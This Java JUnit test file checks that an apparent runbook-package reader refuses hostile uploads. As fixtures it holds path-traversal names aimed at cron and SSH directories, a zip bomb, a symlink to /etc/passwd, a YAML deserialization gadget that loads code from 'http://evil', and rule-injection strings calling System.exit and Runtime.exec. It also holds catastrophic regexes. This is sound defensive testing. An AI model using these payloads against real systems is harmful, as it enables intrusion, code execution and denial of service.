package io.belfry.runbook;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.api.DynamicTest.dynamicTest;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.SortedMap;
import java.util.stream.Stream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;

/** Packages of people who mean harm are refused, with a message that says why. */
class HostilePackageTest {
  private static final String GOOD = PackageReaderTest.RUNBOOK;

  /** Files that no package has. */
  @TestFactory
  Stream<DynamicTest> byName() {
    Map<String, String> names = new LinkedHashMap<>();
    names.put("runbooks/Evil.class", "is compiled code");
    names.put("runbooks/evil.jar", "is compiled code");
    names.put("runbooks/Evil.java", "is Java");
    names.put("META-INF/kmodule.xml", "would configure the server or the rule engine");
    names.put("kmodule.xml", "would configure the rule engine");
    names.put("META-INF/services/javax.script.ScriptEngineFactory", "would configure the server");
    names.put("runbooks/META-INF/x.md", "would configure the server");
    names.put("pom.xml", "would configure a build");
    names.put("META-INF/maven/pom.properties", "would configure");
    names.put("rules/free.drl", "which no package may bring");
    names.put("runbooks/script.mvel", "is a script");
    names.put("tables/matrix.xls", "is a binary table");
    names.put("../../etc/cron.d/evil.md", "is no name that a package may have");
    names.put("runbooks/../../../root/.ssh/evil.md", "is no name that a package may have");
    names.put("/etc/evil.md", "is no name that a package may have");
    names.put("runbooks\\..\\evil.md", "is no name that a package may have");
    names.put("C:/evil.md", "is no name that a package may have");
    names.put("runbooks/a\u202Edm.md", "is no name that a package may have");
    names.put("runbooks/a\nb.md", "is no name that a package may have");
    names.put("runbooks/" + "a".repeat(300) + ".md", "is no name that a package may have");
    names.put("other/evil.md", "has no place in a package");
    return names.entrySet().stream()
        .map(
            each ->
                dynamicTest(
                    PackagePaths.shown(each.getKey()),
                    () -> {
                      SortedMap<String, byte[]> files = PackageReaderTest.files();
                      PackageReaderTest.put(files, each.getKey(), GOOD);
                      assertThatThrownBy(() -> PackageZip.unpack(PackageZip.pack(files)))
                          .isInstanceOf(PackageException.class)
                          .hasMessageContaining(each.getValue());
                      assertThatThrownBy(() -> PackageReader.read(files))
                          .isInstanceOf(PackageException.class)
                          .hasMessageContaining(each.getValue());
                    }));
  }

  /** Zips that are more, or something else, than they seem. */
  @TestFactory
  Stream<DynamicTest> byZip() {
    byte[] zeros = new byte[400 * 1024];
    return Stream.of(
        refusedZip("a huge file", zip(Map.of("README.md", new byte[600 * 1024])), "is larger than"),
        refusedZip(
            "a bomb of zeros", zip(many(80, zeros)), "unpacks to more than 50 times its size"),
        refusedZip("too many files", zip(many(2_100, new byte[0])), "has too many entries"),
        refusedZip(
            "a large zip", new byte[9 * 1024 * 1024], "has 9437184 bytes. Send at most 8388608."),
        refusedZip("no zip", "GIF89a".getBytes(StandardCharsets.US_ASCII), "is no zip, or empty"),
        refusedZip("a torn zip", torn(), "ends too early"),
        refusedZip("a symbolic link", link(), "has a symbolic link"),
        refusedZip("a name twice", twice(), "is in the zip twice"));
  }

  /** Texts that a parser could choke on, or believe. */
  @TestFactory
  Stream<DynamicTest> byContent() {
    return Stream.of(
        refused(
            "a bomb of references",
            "package.yaml",
            "a: &a [x,x]\nb: &b [*a,*a]\nc: &c [*b,*b]\nd: [*c,*c]\n",
            "refers to another place by *"),
        refused("a reference to itself", "package.yaml", "a: &a [*a]\n", "refers to another place"),
        refused("depth", "package.yaml", "a: " + "{a: ".repeat(50_000), "more than 20 levels"),
        refused(
            "a Java object",
            "package.yaml",
            "name: !!javax.script.ScriptEngineManager [!!java.net.URL ['http://evil']]\n",
            "has a tag"),
        refused(
            "a foreign tenant",
            "package.yaml",
            PackageReaderTest.MANIFEST + "tenant: 2\n",
            "field (tenant) is not known"),
        refused(
            "another fact model",
            "package.yaml",
            PackageReaderTest.MANIFEST.replace("facts: 1", "facts: 99"),
            "field (facts) is (99)"),
        refusedWhere(
            "a process", "java.lang.Runtime.getRuntime().exec('id')", "which means nothing here"),
        refusedWhere("the end of a string", "type == 'x'); System.exit(0); (", "has (;)"),
        refusedWhere("another tenant's alerts", "tenant == '2'", "is no field"),
        refusedWhere("a class", "labels.class.forName('x')", "has (() after a text"),
        refusedWhere("large repeats", "type matches '((a{100}){100}){100}'", "repeats too often"),
        refusedWhere("look-around", "type matches '(?=(a+)+b)a'", "an expression that is none"),
        refusedWhere("depth of where", "not ".repeat(500) + "type == 'a'", "nested too deep"),
        refused(
            "an id that ends the rule",
            "runbooks/volume.md",
            GOOD.replace("id: volume", "id: 'x\" when then System.exit(0); end rule \"y'"),
            "field (id) is"),
        refused(
            "automation",
            "runbooks/volume.md",
            GOOD.replace("match:", "respond: { automate: { action: rm } }\nmatch:"),
            "is reserved for automation"),
        refused(
            "a flood of steps",
            "scenarios/s.yaml",
            "scenario: S\nsteps:\n"
                + "  - { at: 0s, repeat: 10000, every: 1s, alert: { type: A } }\n".repeat(11),
            "makes more than 100000 steps"),
        refused(
            "large repeats in a table",
            "routing.csv",
            "org,class,matchers,team\n,,host=~((a{100}){100}){100},web\n",
            "repeats too often"),
        refused(
            "a label that ends the rule",
            "runbooks/volume.md",
            GOOD.replace(
                "match:", "correlate: { by: ['x\")); System.exit(0); (\"'], within: 5m }\nmatch:"),
            "field (correlate.by) has"),
        refused(
            "a team that ends the rule",
            "runbooks/volume.md",
            GOOD.replace("match:", "respond: { notify: ['x\")); System.exit(0); (\"'] }\nmatch:"),
            "field (respond.notify) has"),
        refused("no text", "runbooks/volume.md", "\uD800", "no front matter"));
  }

  /** What may be written and could do harm is taken for what it is: text. */
  @Test
  void textThatLooksLikeRulesStaysText() {
    String title = "\\\"); System.exit(1); (\\u0022 $alert.getClass() */ end";
    Runbook runbook =
        RunbookParser.parse(
            "r.md",
            "---\nid: a\nclass: flow\ntitle: '%s'\nowner: '%s'\nmatch: { type: ['%s', B], where: 'type != \"%s\"' }\n---\n"
                .formatted(title, title, title, title.replace("\"", "\\\"")));
    Scenario scenario =
        ScenarioParser.parse(
                "s.yaml",
                """
                scenario: S
                steps: [ { at: 0s, alert: { type: B, key: k } } ]
                events: [ { key: k, runbook: a } ]
                """)
            .get(0);
    ScenarioRunner.Result result =
        ScenarioRunner.run(
            ReleaseCompiler.compile(SampleReleases.policies(), List.of(runbook)), scenario);
    assertThat(result.differences()).isEmpty();
    assertThat(runbook.title()).isEqualTo(title);
  }

  private static DynamicTest refusedWhere(String name, String where, String message) {
    return refused(
        name,
        "runbooks/volume.md",
        GOOD.replace("{ type: VolumeFull }", "\n  type: VolumeFull\n  where: |-\n    " + where),
        message);
  }

  private static DynamicTest refused(String name, String file, String content, String message) {
    return dynamicTest(
        name,
        () -> {
          SortedMap<String, byte[]> files = PackageReaderTest.files();
          PackageReaderTest.put(files, file, content);
          assertThatThrownBy(() -> PackageReader.read(files))
              .isInstanceOf(PackageException.class)
              .hasMessageContaining(message);
        });
  }

  private static DynamicTest refusedZip(String name, byte[] zip, String message) {
    return dynamicTest(
        name,
        () ->
            assertThatThrownBy(() -> PackageZip.unpack(zip))
                .isInstanceOf(PackageException.class)
                .hasMessageContaining(message));
  }

  private static Map<String, byte[]> many(int count, byte[] content) {
    Map<String, byte[]> files = new LinkedHashMap<>();
    for (int i = 0; i < count; i++) {
      files.put("runbooks/r%d.md".formatted(i), content);
    }
    return files;
  }

  private static byte[] torn() {
    byte[] whole = PackageZip.pack(PackageReaderTest.files());
    return Arrays.copyOf(whole, 60);
  }

  /** The same name twice, which the writer refuses to write. */
  private static byte[] twice() {
    byte[] zip = zip(Map.of("runbooks/a.md", new byte[1], "runbooks/b.md", new byte[1]));
    String text = new String(zip, StandardCharsets.ISO_8859_1);
    return text.replace("runbooks/b.md", "runbooks/a.md").getBytes(StandardCharsets.ISO_8859_1);
  }

  private static byte[] link() {
    byte[] zip = zip(Map.of("runbooks/a.md", "/etc/passwd".getBytes(StandardCharsets.US_ASCII)));
    for (int at = 0; at < zip.length - 46; at++) {
      if (zip[at] == 'P' && zip[at + 1] == 'K' && zip[at + 2] == 1 && zip[at + 3] == 2) {
        zip[at + 5] = 3;
        zip[at + 41] = (byte) 0xA1;
      }
    }
    return zip;
  }

  private static byte[] zip(Map<String, byte[]> files) {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
      for (Map.Entry<String, byte[]> file : files.entrySet()) {
        zip.putNextEntry(new ZipEntry(file.getKey()));
        zip.write(file.getValue());
        zip.closeEntry();
      }
    } catch (IOException impossible) {
      throw new UncheckedIOException(impossible);
    }
    return bytes.toByteArray();
  }
}
